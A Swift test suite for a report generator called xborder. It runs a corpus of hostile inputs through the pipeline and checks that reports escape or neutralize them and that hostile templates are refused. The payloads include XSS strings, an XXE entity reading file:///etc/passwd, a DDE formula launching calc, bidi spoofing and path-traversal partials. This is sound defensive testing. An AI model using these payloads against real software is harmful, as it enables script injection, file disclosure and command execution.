import Foundation
import Testing
import XBorderCore

#if canImport(Glibc)
import Glibc
import TestSupport
#endif

/// "Nothing gets in, nothing gets lost" (docs/SECURITY.md): hostile text in every free-text
/// column of an inventory goes through the whole pipeline and comes out escaped in report.html
/// and report.xhtml (both still valid), neutralized in the CSV files a spreadsheet opens
/// (OWASP CSV Injection, ASVS 5.0 V1.2.10), and archived byte for byte in inputs/. User templates
/// that declare entities, add active content or reach outside their folder are refused before
/// anything is read or archived. The checks here are the test's own (its own CSV reader, tag
/// scanner and list of forbidden characters), not xborder's, so they do not share its blind spots.
@Suite(.serialized) struct PayloadCorpusTests {
    /// One hostile value, named for test output.
    struct Payload: Sendable, CustomTestStringConvertible {
        var name: String
        var value: String
        var testDescription: String { name }
    }

    /// Markup, entity, URL-scheme, CSS and Mustache injection.
    static let markup: [Payload] = [
        .init(name: "script element", value: "<script>alert(1)</script>"),
        .init(name: "attribute break-out", value: "\"><img src=x onerror=alert(1)>"),
        .init(name: "single-quote attribute", value: "' onmouseover='x"),
        .init(name: "CDATA end", value: "]]>"),
        .init(name: "entity declaration", value: "<!ENTITY x SYSTEM \"file:///etc/passwd\">"),
        .init(name: "entity reference", value: "&xxe;"),
        .init(name: "pre-escaped entity", value: "&amp;lt;"),
        .init(name: "javascript URL", value: "javascript:alert(1)"),
        .init(name: "CSS expression", value: "expression(alert(1))"),
        .init(name: "SVG break-out", value: "</svg:svg><svg:script>"),
        .init(name: "Mustache variable", value: "{{t.report_title}}"),
        .init(name: "Mustache triple", value: "{{{x}}}"),
    ]

    /// Characters XML 1.0 forbids or that disguise text (C0/C1 controls, noncharacters, bidi).
    static let controls: [Payload] = [
        .init(name: "NUL", value: "NUL\u{0}inside"),
        .init(name: "SOH", value: "SOH\u{1}inside"),
        .init(name: "VT", value: "VT\u{B}inside"),
        .init(name: "US", value: "US\u{1F}inside"),
        .init(name: "C1 CSI", value: "C1\u{9B}31minside"),
        .init(name: "U+FFFE", value: "nonchar\u{FFFE}inside"),
        .init(name: "U+FFFF", value: "nonchar\u{FFFF}inside"),
        .init(name: "RLO", value: "invoice\u{202E}fdp.exe"),
        .init(name: "isolates", value: "\u{2066}LRI\u{2067}RLI\u{2068}FSI\u{2069}PDI"),
        .init(name: "only odd text", value: "\u{0}\u{1}\u{B}\u{1F}\u{202E}\u{FFFE}"),
    ]

    /// Cells a spreadsheet would evaluate (after xborder trims edge white space, TAB/CR-leading
    /// cells still start with a trigger).
    static let triggers: [Payload] = [
        .init(name: "equals", value: "=1+2"),
        .init(name: "plus", value: "+cmd"),
        .init(name: "minus", value: "-2+3"),
        .init(name: "at", value: "@SUM(1)"),
        .init(name: "tab-leading", value: "\t=1+2"),
        .init(name: "CR-leading", value: "\r=1+2"),
        .init(name: "NUL-leading", value: "\u{0}=1+2"),
        .init(name: "hyperlink", value: "=HYPERLINK(\"https://example.invalid/?q=\"&A2,\"open\")"),
    ]

    /// Look like triggers but are not: must reach the CSV unchanged.
    static let nearMisses: [Payload] = [
        .init(name: "mid-cell", value: "a=1+2"),
        .init(name: "full-width equals", value: "＝1+2"),
        .init(name: "already escaped", value: "'=1+2"),
        .init(name: "inner minus", value: "1-2"),
    ]

    /// `<`, `&`, `"`, `>` or `'` followed by a combining mark: one grapheme cluster, so an escaper
    /// that compares Characters misses the markup character. `<` + U+0338 is the NFD form of
    /// '≮' that macOS exports produce.
    static let combining: [Payload] = [
        .init(name: "less-than + U+0338 (NFD ≮)", value: "latency <\u{338} 5 ms"),
        .init(name: "greater-than + U+0338 (NFD ≯)", value: "latency >\u{338} 5 ms"),
        .init(name: "ampersand + U+0301", value: "R&\u{301}D"),
        .init(name: "quote + U+0301", value: "say \"\u{301}hi\""),
        .init(name: "apostrophe + U+0301", value: "it'\u{301}s"),
    ]

    static let freeTextColumns = ["data_asset", "origin_entity", "destination_entity", "owner", "notes"]

    /// Scalars that must never reach a report: what XML 1.0 forbids, C1 controls,
    /// noncharacters U+FFFE/U+FFFF and the bidi embeddings, overrides and isolates.
    static func isForbidden(_ scalar: Unicode.Scalar) -> Bool {
        switch scalar.value {
        case 0x09, 0x0A, 0x0D: false
        case 0x00...0x1F, 0x7F...0x9F, 0xFFFE, 0xFFFF: true
        case 0x202A...0x202E, 0x2066...0x2069: true
        default: false
        }
    }

    // MARK: - Building and running inventories

    /// A cell quoted for RFC 4180 (always quoted, inner quotes doubled scalar by scalar: a quote
    /// followed by a combining mark is one Character, which Character-wise replacement misses).
    static func quoted(_ value: String) -> String {
        "\"" + value.unicodeScalars.map { $0 == "\"" ? "\"\"" : String($0) }.joined() + "\""
    }

    /// flows.csv with one row per payload, the payload in every free-text column; flow ids
    /// `P00`, `P01`, … in payload order. `extraRows` are appended verbatim.
    static func inventory(_ payloads: [Payload], extraRows: [String] = []) -> [UInt8] {
        var lines = [(["flow_id", "data_category", "confidentiality", "origin_country", "destination_country"]
            + freeTextColumns).joined(separator: ",")]
        for (i, payload) in payloads.enumerated() {
            let fixed = [flowID(i), "technical", "secret", "JP", "CN"]
            lines.append((fixed + freeTextColumns.map { _ in payload.value }).map(quoted).joined(separator: ","))
        }
        lines += extraRows
        return Array((lines.joined(separator: "\r\n") + "\r\n").utf8)
    }

    static func flowID(_ i: Int) -> String { "P" + (i < 10 ? "0" : "") + String(i) }

    /// A period folder `<tmp>/Inputs/2026-Q1` holding `flows`, and an empty output folder.
    static func period(flows: [UInt8], settings: String? = nil) throws -> (period: String, output: String) {
        let root = Paths.temporaryDirectory()
        let period = root + "/Inputs/2026-Q1"
        try FileManager.default.createDirectory(atPath: period, withIntermediateDirectories: true)
        try FileSystem.write(period + "/flows.csv", flows)
        if let settings { try FileSystem.write(root + "/Inputs/settings.csv", Array(settings.utf8)) }
        return (period, root + "/Output")
    }

    static func config(period: String, output: String, templates: String = Paths.repo("Templates")) -> Config {
        var config = Config(periodDirectory: period)
        config.outputDirectory = output
        config.referenceDirectory = Paths.repo("Inputs/reference")
        config.templatesDirectory = templates
        config.topN = 500  // every finding in detail, so every asset reaches the report
        return config
    }

    static func text(_ path: String) throws -> String { String(decoding: try FileSystem.read(path), as: UTF8.self) }

    // MARK: - The test's own readers

    /// RFC 4180 records (the test's own reader: CRLF, LF or CR ends a record outside quotes).
    static func records(_ bytes: [UInt8]) -> [[String]] {
        var records: [[String]] = []
        var record: [String] = []
        var field: [UInt8] = []
        var quotedField = false, inQuotes = false
        var i = 0
        func endField() {
            record.append(String(decoding: field, as: UTF8.self))
            field = []
            quotedField = false
        }
        while i < bytes.count {
            let b = bytes[i]
            if inQuotes {
                if b == 0x22 {
                    if i + 1 < bytes.count, bytes[i + 1] == 0x22 {
                        field.append(0x22)
                        i += 2
                        continue
                    }
                    inQuotes = false
                } else {
                    field.append(b)
                }
                i += 1
                continue
            }
            switch b {
            case 0x22 where field.isEmpty && !quotedField:
                inQuotes = true
                quotedField = true
            case 0x2C:
                endField()
            case 0x0D, 0x0A:
                if b == 0x0D, i + 1 < bytes.count, bytes[i + 1] == 0x0A { i += 1 }
                endField()
                records.append(record)
                record = []
            default:
                field.append(b)
            }
            i += 1
        }
        if !field.isEmpty || !record.isEmpty || quotedField {
            endField()
            records.append(record)
        }
        return records
    }

    /// Every tag (`<…>`) of a document; escaped text never contains `<`, so this is all markup.
    static func tags(_ document: String) -> [Substring] {
        var result: [Substring] = []
        var rest = Substring(document)
        while let open = rest.firstIndex(of: "<") {
            guard let close = rest[open...].firstIndex(of: ">") else {
                result.append(rest[open...])
                break
            }
            result.append(rest[open...close])
            rest = rest[rest.index(after: close)...]
        }
        return result
    }

    /// The element name of a tag, lower-cased, without prefix (`<svg:script …>` → `script`).
    static func elementName(_ tag: Substring) -> String {
        let name = tag.dropFirst().drop { $0 == "/" }.prefix { !$0.isWhitespace && $0 != ">" && $0 != "/" }
        return String(name.split(separator: ":").last ?? "").lowercased()
    }

    /// The attributes of a well-formed tag as (lower-cased name, value).
    static func attributes(_ tag: Substring) -> [(name: String, value: String)] {
        var result: [(String, String)] = []
        var rest = tag.dropFirst().drop { $0 != " " && $0 != "\n" && $0 != "\t" && $0 != ">" }
        while true {
            rest = rest.drop { $0.isWhitespace }
            let name = rest.prefix { $0 != "=" && !$0.isWhitespace && $0 != ">" && $0 != "/" }
            guard !name.isEmpty else { break }
            rest = rest.dropFirst(name.count).drop { $0.isWhitespace }
            guard rest.first == "=" else { continue }
            rest = rest.dropFirst().drop { $0.isWhitespace }
            guard let quote = rest.first, quote == "\"" || quote == "'" else { break }
            rest = rest.dropFirst()
            let value = rest.prefix { $0 != quote }
            result.append((name.lowercased(), String(value)))
            rest = rest.dropFirst(value.count + 1)
        }
        return result
    }

    /// What HTML escaping must turn a value into (scalar by scalar).
    static func escaped(_ value: String) -> String {
        var out = ""
        for scalar in value.unicodeScalars {
            switch scalar {
            case "&": out += "&amp;"
            case "<": out += "&lt;"
            case ">": out += "&gt;"
            case "\"": out += "&quot;"
            case "'": out += "&#39;"
            default: out.unicodeScalars.append(scalar)
            }
        }
        return out
    }

    /// Every check a rendered report must pass whatever the inventory held.
    static func expectSafe(
        _ document: String, _ name: String, sourceLocation: Testing.SourceLocation = #_sourceLocation
    ) {
        let lower = document.lowercased()
        for needle in ["<script", "<svg:script", "<!entity", "<img", "<iframe", "<object", "<embed"] {
            #expect(!lower.contains(needle), "\(name) contains unescaped '\(needle)'", sourceLocation: sourceLocation)
        }
        let bad = Set(
            document.unicodeScalars.filter(isForbidden).map { "U+" + String($0.value, radix: 16, uppercase: true) })
        #expect(bad.isEmpty, "\(name) contains forbidden characters \(bad.sorted())", sourceLocation: sourceLocation)
        for tag in tags(document) where !tag.hasPrefix("<!--") && !tag.hasPrefix("<?") && !tag.hasPrefix("<!DOCTYPE") {
            let element = elementName(tag)
            #expect(!["script", "img", "iframe", "object", "embed"].contains(element), "\(name): \(tag)",
                    sourceLocation: sourceLocation)
            #expect(!tag.lowercased().contains("onerror="), "\(name): \(tag)", sourceLocation: sourceLocation)
            for attribute in attributes(tag) {
                #expect(!attribute.name.hasPrefix("on"), "\(name): event handler in \(tag)",
                        sourceLocation: sourceLocation)
                let scalars = attribute.value.lowercased().unicodeScalars.filter { $0.value > 0x20 }
                let compact = String(String.UnicodeScalarView(scalars))
                if ["href", "xlink:href", "src", "action", "formaction"].contains(attribute.name) {
                    #expect(!compact.contains("javascript:"), "\(name): \(tag)", sourceLocation: sourceLocation)
                }
                #expect(!compact.contains("expression("), "\(name): \(tag)", sourceLocation: sourceLocation)
            }
        }
    }

    /// The outcome's diagnostics as text (with notes), for "never leaks" checks.
    static func diagnosticText(_ outcome: ReportPipeline.Outcome) -> String {
        outcome.diagnostics.map(\.description).joined(separator: "\n")
    }

    // MARK: - The corpus through the pipeline

    @Test("the payload corpus in every free-text column: archived, escaped, valid, neutralized, intact")
    func corpus() throws {
        let payloads = Self.markup + Self.controls + Self.triggers + Self.nearMisses
        let rejectedID = "=cmd|' /C calc'!A0"
        let rejectedRow = [rejectedID, "technical", "secret", "JP", "Atlantis", "x", "x", "x", "x", "x"]
            .map(Self.quoted).joined(separator: ",")
        let settings = "key,value\norganization,\"\"\"><script>alert(1)</script>\"\nclassification,\u{202E}lanretni\n"
            + "signoff_1,=1+2 <b>Preparer</b>\n"
        let flows = Self.inventory(payloads, extraRows: [rejectedRow])
        let (period, output) = try Self.period(flows: flows, settings: settings)
        let outcome = ReportPipeline.run(Self.config(period: period, output: output))

        // Archived, every odd-text row assessed, the one bad row rejected and listed.
        let archive = outcome.archivePath
        let folder = try #require(archive, "\(Self.diagnosticText(outcome))")
        #expect(outcome.rowsRead == payloads.count + 1)
        #expect(outcome.rowsAssessed == payloads.count)
        #expect(outcome.rowsRejected == 1)
        #expect(outcome.findings > 0)
        let unexpected = outcome.diagnostics.filter {
            $0.severity == .error && $0.code != "input.country"
        }
        #expect(unexpected.map(\.description) == [])
        // Removed characters are reported: five columns of every control-character row.
        let controlWarnings = outcome.diagnostics.filter { $0.code == "input.control-character" }
        #expect(controlWarnings.count >= Self.controls.count * Self.freeTextColumns.count)

        // Both reports valid, and nothing in them interpreted.
        let xhtmlBytes = try FileSystem.read(folder + "/report.xhtml")
        let htmlBytes = try FileSystem.read(folder + "/report.html")
        let validator = ReportValidator(templates: nil)
        #expect(validator.validateXHTML(xhtmlBytes, path: "report.xhtml").map(\.description) == [])
        #expect(validator.validateHTML(htmlBytes, path: "report.html").map(\.description) == [])
        let xhtml = String(decoding: xhtmlBytes, as: UTF8.self)
        let html = String(decoding: htmlBytes, as: UTF8.self)
        Self.expectSafe(xhtml, "report.xhtml")
        Self.expectSafe(html, "report.html")

        // Nothing lost: every printable payload is in both reports, escaped, never evaluated.
        for payload in Self.markup + Self.triggers + Self.nearMisses
        where !payload.value.unicodeScalars.contains(where: Self.isForbidden) {
            let shown = Self.escaped(payload.value.trimmingWhitespace())
            let inHTML = html.contains(shown), inXHTML = xhtml.contains(shown)
            #expect(inHTML, "report.html lacks \(payload.name) as \(Diagnostic.quoted(shown))")
            #expect(inXHTML, "report.xhtml lacks \(payload.name) as \(Diagnostic.quoted(shown))")
        }
        let literal = ["{{t.report_title}}", "{{{x}}}", "&amp;xxe;", "&amp;amp;lt;", "]]&gt;",
                       "&lt;/svg:svg&gt;&lt;svg:script&gt;", "&lt;!ENTITY x SYSTEM &quot;file:///etc/passwd&quot;&gt;"]
        let missing = literal.filter { !html.contains($0) }
        #expect(missing == [], "kept as literal, escaped text")
        let expanded = xhtml.contains("root:x:")
        #expect(!expanded, "no external entity was expanded")

        try Self.expectNeutralizedCSV(folder: folder, payloads: payloads, rejectedID: rejectedID)

        // findings.json parses and names every assessed flow; the archived flows.csv is the input
        // byte for byte (the full-fidelity record of every value, controls and bidi included).
        let json = try JSONSerialization.jsonObject(with: Data(FileSystem.read(folder + "/findings.json")))
        let findings = try #require((json as? [String: Any])?["findings"] as? [[String: Any]])
        let flowIDs = Set(findings.compactMap { $0["flow_id"] as? String })
        #expect(flowIDs == Set(payloads.indices.map(Self.flowID)), "findings.json covers every assessed flow")
        let archivedInput = try FileSystem.read(folder + "/inputs/flows.csv")
        #expect(archivedInput == flows, "inputs/flows.csv is archived unchanged")
    }

    /// findings.csv and rejected.csv: no cell starts with a trigger; triggers get `'`, near-misses
    /// are untouched; the quote is the only change.
    static func expectNeutralizedCSV(folder: String, payloads: [Payload], rejectedID: String) throws {
        let triggerStarts: Set<UInt8> = [0x3D, 0x2B, 0x2D, 0x40, 0x09, 0x0D, 0x00]
        for name in ["findings.csv", "rejected.csv"] {
            for (r, record) in records(try FileSystem.read(folder + "/" + name)).enumerated() {
                for cell in record {
                    #expect(!triggerStarts.contains(cell.utf8.first ?? 0x20),
                            "\(name) row \(r + 1): \(Diagnostic.quoted(cell))")
                }
            }
        }
        let findings = records(try FileSystem.read(folder + "/findings.csv"))
        let header = try #require(findings.first)
        let flowColumn = try #require(header.firstIndex(of: "flow_id"))
        // owner always carries the payload; data_asset too while findings.csv has that column.
        let columns = ["data_asset", "owner"].compactMap { header.firstIndex(of: $0) }
        #expect(header.contains("owner"), "findings.csv has the owner column")
        var rowsByFlow: [String: [String]] = [:]
        for record in findings.dropFirst() where record.count == header.count {
            rowsByFlow[record[flowColumn]] = record
        }
        #expect(findings.dropFirst().allSatisfy { $0.count == header.count }, "every findings.csv row has every column")
        for (i, payload) in payloads.enumerated() {
            guard let row = rowsByFlow[flowID(i)] else {
                Issue.record("findings.csv has no row for \(payload.name) (\(flowID(i)))")
                continue
            }
            let value = payload.value.trimmingWhitespace()
            let isTrigger = triggers.contains { $0.name == payload.name }
            let isNearMiss = nearMisses.contains { $0.name == payload.name }
            for column in columns where isTrigger || isNearMiss {
                #expect(row[column] == (isTrigger ? "'" + value : value), "\(header[column]) of \(payload.name)")
            }
        }
        let rejected = records(try FileSystem.read(folder + "/rejected.csv"))
        #expect(rejected.contains { $0.contains("'" + rejectedID) }, "rejected.csv neutralizes the rejected flow_id")
    }

    @Test("markup characters followed by a combining mark are still escaped; the report stays valid",
          arguments: combining)
    func combiningMarks(_ payload: Payload) throws {
        let (period, output) = try Self.period(flows: Self.inventory([payload]))
        let outcome = ReportPipeline.run(Self.config(period: period, output: output))
        let errors = outcome.diagnostics.filter { $0.severity == .error }.map(\.description)
        #expect(errors == [])
        let archive = outcome.archivePath
        let folder = try #require(archive, "nothing archived")
        #expect(outcome.rowsAssessed == 1)
        let xhtml = try FileSystem.read(folder + "/report.xhtml")
        let html = try FileSystem.read(folder + "/report.html")
        let validator = ReportValidator(templates: nil)
        #expect(validator.validateXHTML(xhtml, path: "report.xhtml").map(\.description) == [])
        #expect(validator.validateHTML(html, path: "report.html").map(\.description) == [])
        // In text content `>`, `"` and `'` may stay raw, and the mark may sit on a U+25CC DOTTED
        // CIRCLE (TextSanitizer's fix); `&` and `<` must be references. Compared byte-wise:
        // Foundation's replacement works on Characters, which is the very problem under test.
        let document = String(decoding: html, as: UTF8.self)
        let text = Self.replacingBytes(document, [
            ("\u{25CC}", ""), ("&gt;", ">"), ("&quot;", "\""), ("&#39;", "'"),
        ])
        let shown = payload.value.unicodeScalars
            .map { $0 == "&" ? "&amp;" : $0 == "<" ? "&lt;" : String($0) }.joined()
        let found = Array(text.utf8).firstRange(of: Array(shown.utf8)) != nil
        #expect(found, "report.html does not show \(payload.name) as \(Diagnostic.quoted(shown))")
        let marks = payload.value.unicodeScalars.filter { $0.value >= 0x300 }
        let raw = ["<", "&"].flatMap { c in marks.map { c + String($0) } }
        let unescaped = raw.filter { Array(document.utf8).firstRange(of: Array($0.utf8)) != nil }
        #expect(unescaped.map { Diagnostic.quoted($0) } == [], "a raw markup character carries a combining mark")
    }

    /// `text` with each byte sequence of `pairs` replaced, left to right (no Character semantics).
    static func replacingBytes(_ text: String, _ pairs: [(String, String)]) -> String {
        var bytes = Array(text.utf8)
        for (from, to) in pairs {
            let needle = Array(from.utf8), replacement = Array(to.utf8)
            var out: [UInt8] = []
            out.reserveCapacity(bytes.count)
            var i = 0
            while i < bytes.count {
                if i + needle.count <= bytes.count, bytes[i..<(i + needle.count)].elementsEqual(needle) {
                    out += replacement
                    i += needle.count
                } else {
                    out.append(bytes[i])
                    i += 1
                }
            }
            bytes = out
        }
        return String(decoding: bytes, as: UTF8.self)
    }

    @Test("a lone surrogate in a UTF-16 inventory is replaced with a located diagnostic; the XHTML stays valid")
    func loneSurrogate() throws {
        let header = "flow_id,data_asset,data_category,confidentiality,origin_country,destination_country\r\n"
        var units = Array(header.utf16)
        units += Array("P00,CAD models,technical,secret,JP,CN\r\nP01,bad ".utf16) + [0xD800]
        units += Array(" here,technical,secret,JP,CN\r\n".utf16)
        var bytes: [UInt8] = [0xFF, 0xFE]
        for unit in units { bytes += [UInt8(unit & 0xFF), UInt8(unit >> 8)] }
        let (period, output) = try Self.period(flows: bytes)
        let outcome = ReportPipeline.run(Self.config(period: period, output: output))
        #expect(outcome.diagnostics.contains { $0.code == "input.encoding" && $0.location?.line == 3 },
                "\(Self.diagnosticText(outcome))")
        let archive = outcome.archivePath
        let folder = try #require(archive, "\(Self.diagnosticText(outcome))")
        #expect(outcome.rowsRead == outcome.rowsAssessed + outcome.rowsRejected)
        let xhtml = try FileSystem.read(folder + "/report.xhtml")
        #expect(ReportValidator(templates: nil).validateXHTML(xhtml, path: "report.xhtml").map(\.description) == [])
        Self.expectSafe(String(decoding: xhtml, as: UTF8.self), "report.xhtml")
    }

    @Test("an asset and a recipient that look like message placeholders are shown as written")
    func placeholderLookalikes() throws {
        // fmt_business_PRV is "{recipient} could use {asset} beyond the agreed purpose …". Whatever
        // order the placeholders are filled in, substituting into already-substituted text turns
        // these two values into each other.
        let header = "flow_id,data_asset,data_category,confidentiality,origin_country,destination_country,"
            + "destination_entity,recipient_type,mechanism\r\n"
        let row = "P00,{recipient},technical,secret,JP,US,{asset},platform,email\r\n"
        let (period, output) = try Self.period(flows: Array((header + row).utf8))
        let outcome = ReportPipeline.run(Self.config(period: period, output: output))
        let archive = outcome.archivePath
        let folder = try #require(archive, "\(Self.diagnosticText(outcome))")
        let html = try Self.text(folder + "/report.html")
        let statement = html.contains("could use"), asWritten = html.contains("{asset} could use {recipient} beyond")
        let swapped = html.contains("{asset} could use {asset}") || html.contains("{recipient} could use {recipient}")
        #expect(statement, "the PRV statement is in the report")
        #expect(asWritten, "the statement shows data_asset and destination_entity as written")
        #expect(!swapped, "a value was substituted into another value's placeholder")
    }

    // MARK: - CSV output against the shared OWASP / ASVS corpus

    @Test("every value of excel-quirks/formula-injection.csv round-trips through CSVWriter, triggers neutralized",
          .enabled(if: Paths.sharedTestData != nil))
    func sharedFormulaInjectionCorpus() throws {
        let folder = try #require(Paths.sharedTestData) + "/excel-quirks/generated"
        let rows = Self.records(try FileSystem.read(folder + "/formula-injection.csv"))
        // The test's reader agrees with the generator's own record of the file.
        let expected = try JSONSerialization.jsonObject(
            with: Data(FileSystem.read(folder + "/formula-injection.csv.expected.json"))) as? [String: Any]
        #expect(rows == (expected?["records"] as? [[String]]), "test CSV reader disagrees with expected.json")

        let header = try #require(rows.first)
        #expect(header == ["case", "cell", "owasp_trigger", "why"])
        let body = Array(rows.dropFirst())
        #expect(body.count >= 16)
        var writer = CSVWriter(header: header)
        for row in body { writer.row(row) }
        let written = Self.records(writer.drain())
        #expect(written.count == rows.count)
        #expect(written.first == header)
        var triggers = 0
        for (row, out) in zip(body, written.dropFirst()) {
            let name = row[0], cell = row[1], verdict = row[2]
            // "yes" (OWASP) and "asvs" (ASVS 5.0 V1.2.10 adds NUL) must be neutralized.
            let mustNeutralize = verdict == "yes" || verdict == "asvs"
            if mustNeutralize { triggers += 1 }
            #expect(out.count == 4, "\(name): \(out)")
            guard out.count == 4 else { continue }
            #expect(out[1] == (mustNeutralize ? "'" + cell : cell), "\(name) (\(verdict))")
            #expect(CSVWriter.isFormulaTrigger(cell) == mustNeutralize, "\(name): trigger detection")
            // Nothing lost: the other columns are unchanged and the quote is the only addition.
            #expect([out[0], out[2], out[3]] == [row[0], row[2], row[3]], "\(name)")
            // OWASP's worked examples state the exact escaped field.
            if let range = row[3].range(of: "escaped output is ") {
                var one = CSVWriter()
                one.row([cell])
                let field = String(decoding: one.drain().dropLast(2), as: UTF8.self)
                #expect(field == String(row[3][range.upperBound...]), "\(name): OWASP's escaped form")
            }
        }
        #expect(triggers >= 12, "the corpus has its OWASP and ASVS trigger rows")
    }

    // MARK: - Hostile templates

    /// A copy of the shipped Templates folder in a temporary directory.
    static func templatesCopy() throws -> String {
        let copy = Paths.temporaryDirectory() + "/Templates"
        try FileManager.default.copyItem(atPath: Paths.repo("Templates"), toPath: copy)
        return copy
    }

    static let xhtmlDoctype =
        "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.1 plus MathML 2.0 plus SVG 1.1//EN\" "
        + "\"http://www.w3.org/2002/04/xhtml-math-svg/xhtml-math-svg.dtd\""

    /// report.mustache with `[<!ENTITY x SYSTEM "url">]` added to the XHTML DOCTYPE and `&x;`
    /// used in the XHTML title.
    static func templatesDeclaringEntity(systemID: String) throws -> String {
        let templates = try templatesCopy()
        let path = templates + "/report.mustache"
        var text = try text(path)
        #expect(text.contains(xhtmlDoctype + ">"))
        text = text.replacingOccurrences(
            of: xhtmlDoctype + ">", with: xhtmlDoctype + " [<!ENTITY x SYSTEM \"\(systemID)\">]>")
        text = text.replacingOccurrences(
            of: "<title>{{meta.documentTitle}}</title>",
            with: "<title>{{meta.documentTitle}}{{#xhtml}}&x;{{/xhtml}}</title>")
        try FileSystem.write(path, Array(text.utf8))
        return templates
    }

    /// Runs the shipped Q3 inventory with `templates` into a new output folder.
    static func runQ3(templates: String) -> (ReportPipeline.Outcome, output: String) {
        let output = Paths.temporaryDirectory()
        var config = config(period: Paths.repo("Inputs/2026-Q3"), output: output, templates: templates)
        config.topN = 25
        return (ReportPipeline.run(config), output)
    }

    static func expectRefused(_ outcome: ReportPipeline.Outcome, output: String, secret: String,
                              sourceLocation: Testing.SourceLocation = #_sourceLocation) {
        #expect(outcome.archivePath == nil, sourceLocation: sourceLocation)
        let archived = FileSystem.list(output).filter { !$0.hasPrefix(".") }
        #expect(archived == [], "nothing archived", sourceLocation: sourceLocation)
        let explained = outcome.diagnostics.contains { $0.severity == .error }
        #expect(explained, "an error says why", sourceLocation: sourceLocation)
        let leaked = diagnosticText(outcome).contains(secret)
        #expect(!leaked, "\(secret) leaked into a diagnostic", sourceLocation: sourceLocation)
    }

    @Test("a template declaring an external entity (file:///etc/passwd) is refused; nothing archived, nothing leaked")
    func externalEntityTemplate() throws {
        let templates = try Self.templatesDeclaringEntity(systemID: "file:///etc/passwd")
        let (outcome, output) = Self.runQ3(templates: templates)
        Self.expectRefused(outcome, output: output, secret: "root:")
        #expect(
            outcome.diagnostics.contains {
                $0.severity == .error && ($0.code.hasPrefix("template.") || $0.code.hasPrefix("report."))
            }, "\(Self.diagnosticText(outcome))")
    }

    @Test("the declared external entity is never opened (a FIFO records any reader)")
    func externalEntityNeverOpened() throws {
        let fifo = Paths.temporaryDirectory() + "/secret.fifo"
        try #require(mkfifo(fifo, 0o600) == 0, "cannot create a FIFO in the temporary directory")
        let watch = FIFOWatch(path: fifo)
        watch.start()
        let templates = try Self.templatesDeclaringEntity(systemID: "file://" + fifo)
        let (outcome, output) = Self.runQ3(templates: templates)
        let openedDuringRun = watch.opened
        watch.release()
        #expect(!openedDuringRun, "libxml2 or the template loader opened the entity's file")
        Self.expectRefused(outcome, output: output, secret: FIFOWatch.secret)
    }

    /// Active content or a network fetch a user template adds to the report (README: the reports
    /// are "self-contained, no scripts"; ReportValidator: "no external resources").
    enum ActiveContent: String, CaseIterable, Sendable {
        case script = "script element"
        case eventHandler = "onload event handler"
        case cssURL = "CSS url() to another host"
        case objectData = "object data from another host"
        case metaRefresh = "meta refresh to another host"
        // The same, written so that a line-by-line look at the template text misses it.
        case eventHandlerAtLineStart = "event handler at the start of a line"
        case scriptNamedByMessage = "script element named by a message text"
        case cssURLEscaped = "CSS url() spelled with an escape (\\75 rl)"
    }

    @Test("a template that adds scripts, event handlers or external fetches is refused",
          arguments: ActiveContent.allCases)
    func activeContentTemplates(_ content: ActiveContent) throws {
        let templates = try Self.templatesCopy()
        let report = templates + "/report.mustache"
        var text = try Self.text(report)
        let body = "<body class=\"report lang-{{lang}}\">"
        #expect(text.contains(body))
        switch content {
        case .script:
            text = text.replacingOccurrences(
                of: body, with: body + "\n<div><script type=\"text/javascript\">alert(1)</script></div>")
        case .eventHandler:
            text = text.replacingOccurrences(
                of: body, with: "<body class=\"report lang-{{lang}}\" onload=\"alert(1)\">")
        case .cssURL:
            let style = templates + "/partials/style.mustache"
            let css = try Self.text(style) + "\nbody { background: url(https://example.invalid/beacon.png); }\n"
            try FileSystem.write(style, Array(css.utf8))
        case .objectData:
            let object = "<object data=\"https://example.invalid/x.svg\" type=\"image/svg+xml\">x</object>"
            text = text.replacingOccurrences(of: body, with: body + "\n<div>" + object + "</div>")
        case .metaRefresh:
            let refresh = "<meta http-equiv=\"refresh\" content=\"0;url=https://example.invalid/\"/>"
            text = text.replacingOccurrences(of: "<title>", with: refresh + "\n<title>")
        case .eventHandlerAtLineStart:
            text = text.replacingOccurrences(
                of: body, with: "<body class=\"report lang-{{lang}}\"\nonload=\"alert(1)\">")
        case .scriptNamedByMessage:
            for locale in ["en", "ja"] {
                let messages = templates + "/messages/\(locale).csv"
                try FileSystem.write(messages, Array((try Self.text(messages) + "x_element,script\n").utf8))
            }
            let script = "<div><{{t.x_element}} type=\"text/javascript\">alert(1)</{{t.x_element}}></div>"
            text = text.replacingOccurrences(of: body, with: body + "\n" + script)
        case .cssURLEscaped:
            let style = templates + "/partials/style.mustache"
            let css = try Self.text(style) + "\nbody { background: \\75 rl(https://example.invalid/beacon.png); }\n"
            try FileSystem.write(style, Array(css.utf8))
        }
        try FileSystem.write(report, Array(text.utf8))
        let (outcome, output) = Self.runQ3(templates: templates)
        Self.expectRefused(outcome, output: output, secret: "example.invalid/beacon")
    }

    /// How a template tries to reach outside its folder.
    enum Escape: String, CaseIterable, Sendable {
        case dotDot = "{{> ../outside}} partial"
        case absolute = "absolute partial"
        case symlinkedPartial = "symlinked partial file"
        case symlinkedFolder = "symlinked partials folder"
    }

    @Test("partials from outside the templates folder are refused", arguments: Escape.allCases)
    func partialEscapes(_ escape: Escape) throws {
        let templates = try Self.templatesCopy()
        let outside = (templates as NSString).deletingLastPathComponent
        let secret = "OUTSIDE-SECRET-4711"
        try FileSystem.write(outside + "/outside.mustache", Array("<p>\(secret)</p>\n".utf8))
        let report = templates + "/report.mustache"
        switch escape {
        case .dotDot, .absolute:
            let name = escape == .dotDot ? "../outside" : outside + "/outside"
            let text = try Self.text(report).replacingOccurrences(of: "<body", with: "{{> \(name)}}\n<body")
            try FileSystem.write(report, Array(text.utf8))
        case .symlinkedPartial:
            try FileManager.default.removeItem(atPath: templates + "/partials/style.mustache")
            try FileManager.default.createSymbolicLink(
                atPath: templates + "/partials/style.mustache", withDestinationPath: outside + "/outside.mustache")
        case .symlinkedFolder:
            let moved = outside + "/real-partials"
            try FileManager.default.moveItem(atPath: templates + "/partials", toPath: moved)
            try FileSystem.write(moved + "/style.mustache", Array("/* \(secret) */\n".utf8))
            try FileManager.default.createSymbolicLink(atPath: templates + "/partials", withDestinationPath: moved)
        }
        let (outcome, output) = Self.runQ3(templates: templates)
        Self.expectRefused(outcome, output: output, secret: secret)
        #expect(outcome.diagnostics.contains { $0.severity == .error && $0.code.hasPrefix("template.") },
                "\(Self.diagnosticText(outcome))")
    }
}

/// Watches a FIFO: a thread blocks opening it for writing, which returns only once someone opens
/// it for reading. `opened` before `release()` means the code under test opened the file.
